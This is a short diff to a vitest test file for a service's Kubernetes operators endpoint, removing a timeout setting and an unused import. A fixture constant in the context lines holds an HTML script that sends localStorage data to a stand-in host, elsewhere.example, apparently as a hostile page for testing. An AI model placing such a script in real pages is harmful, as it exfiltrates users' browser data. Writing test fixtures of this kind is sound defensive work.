@@ -1,4 +1,4 @@
-import { beforeAll, afterAll, describe, expect, test, vi } from 'vitest'
+import { beforeAll, afterAll, describe, expect, test } from 'vitest'
 import { createApp } from '#service/node/app.ts'
 import { goneUpstream, upstream } from '#service/testing/test-gateway.ts'
 import { openTestService, testConfiguration } from '#service/testing/test-service.ts'
@@ -6,8 +6,6 @@ import type { TestService } from '#service/testing/test-accounts.ts'
 import { testStores } from '#service/testing/test-stores.ts'
 
 // Opening a store takes seconds on a busy machine.
-vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })
-
 const LIST = '/api/kubernetes_operators'
 const PAGE = '<!doctype html><script>fetch("//elsewhere.example/?" + localStorage.key)</script>'
 
